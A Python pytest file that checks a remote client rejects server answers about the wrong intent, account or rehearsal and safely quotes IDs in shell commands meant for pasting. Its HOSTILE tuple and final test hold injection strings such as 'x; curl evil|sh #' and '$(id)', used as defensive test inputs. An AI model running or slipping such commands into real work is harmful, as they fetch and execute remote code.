"""Answers that are of something else, or not of a rehearsal, or that would run in a shell where they are pasted."""

from __future__ import annotations

import pytest

from core.domain.errors import UnknownExecutionError
from core.domain.keys import IntentKey
from entrypoints.desk.viewing import resolve_command
from entrypoints.remote.refusals import DOUBT
from tests.unit.entrypoints.test_remote_doors import KEY, WHY, done, laid_out, standing

HOSTILE = ("x; curl evil|sh #", "$(id)", "a b", "a\u202eb", "", "x" * 129)


@pytest.mark.parametrize(
    "changed",
    [
        {"action_intent_id": "intent-2"},
        {"account_id": "apac"},
        {"act": "undo"},
        {"status": standing("intent-2")},
        {"status": {**standing(), "account_id": "apac"}},
        {"status": {**standing(), "tenant_id": "other"}},
        {"status": {**standing(), "action_type": HOSTILE[0]}},
        {"surprise": 1},
    ],
)
def test_an_act_that_is_told_of_something_else_may_be_done(changed: dict[str, object]) -> None:
    doors, _ = laid_out({**done("cancel"), **changed})
    with pytest.raises(UnknownExecutionError, match="cannot be read") as refused:
        doors.acting.cancel(KEY, WHY, dry_run=False)
    assert refused.value.message.endswith(DOUBT)


@pytest.mark.parametrize("answer", [done("cancel"), {}, [], standing()])
def test_a_rehearsal_that_is_not_told_as_one_may_have_acted(answer: object) -> None:
    doors, _ = laid_out(answer)
    with pytest.raises(UnknownExecutionError, match="cannot be read") as refused:
        doors.acting.cancel(KEY, WHY, dry_run=True)
    assert refused.value.message.endswith(DOUBT)


def test_a_rehearsal_of_another_act_has_done_nothing() -> None:
    doors, _ = laid_out({"act": "undo", "allowed": False, "would_repeat_a_write": False, "reason": "why"})
    with pytest.raises(UnknownExecutionError, match="it is of another act") as refused:
        doors.acting.cancel(KEY, WHY, dry_run=True)
    assert DOUBT not in refused.value.message


@pytest.mark.parametrize("subject", ["emea/intent-2", "apac/intent:1@x", "emea/intent-2#refused", "emea"])
def test_a_timeline_whose_ledger_is_of_another_intent_is_not_shown(subject: str) -> None:
    doors, _ = laid_out(timeline(subject))
    with pytest.raises(UnknownExecutionError, match="its ledger is of another intent"):
        doors.viewing.timeline_of(KEY)


@pytest.mark.parametrize("subject", ["emea/intent:1@x", "emea/intent:1@x#refused"])
def test_a_timeline_of_the_intent_is_shown_though_it_has_no_status(subject: str) -> None:
    doors, _ = laid_out(timeline(subject))
    assert [it.subject for it in doors.viewing.timeline_of(KEY).chains] == [subject]


def timeline(subject: str) -> dict[str, object]:
    chain = {"subject": subject, "verified": True, "fault": None, "entries": []}
    named = {"action_intent_id": KEY.intent_id, "account_id": KEY.account_id}
    return {**named, "status": None, "chains": [chain], "effects": [], "hints": []}


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("name", ["action_intent_id", "account_id", "action_type"])
def test_what_is_called_an_id_and_is_none_is_in_no_command_to_be_pasted(name: str, text: str) -> None:
    row = {**standing("intent-1"), name: text}
    doors, _ = laid_out(
        {"executions": [row]}, {"executions": [{**row, "parked": "x", "can_resolve_at": None}], "is_partial": False}
    )
    with pytest.raises(UnknownExecutionError, match="what it calls an id is none"):
        doors.listing.page_of("acme", None, None, limit=5, place=None)
    with pytest.raises(UnknownExecutionError, match="what it calls an id is none"):
        doors.listing.inbox("acme", limit=5)


def test_a_switch_of_what_is_no_action_type_is_not_shown() -> None:
    switch = {"scope": "ACTION_TYPE", "tenant_id": "acme", "action_type": HOSTILE[0], "closed": True}
    doors, _ = laid_out({"switches": [switch]})
    with pytest.raises(UnknownExecutionError, match="what it calls an id is none"):
        doors.switching.closed("acme")


def test_a_place_that_could_not_be_asked_for_is_not_given_out() -> None:
    doors, _ = laid_out({"executions": [], "next_token": "x" * 1_025})
    with pytest.raises(UnknownExecutionError, match="next_token"):
        doors.listing.page_of("acme", None, None, limit=5, place=None)


def test_a_command_to_be_pasted_runs_nothing_else() -> None:
    said = resolve_command(IntentKey("acme", "$(id)", "x; curl evil|sh #"))
    assert said.startswith("actonce resolve 'x; curl evil|sh #' -t acme -a '$(id)' --happened")
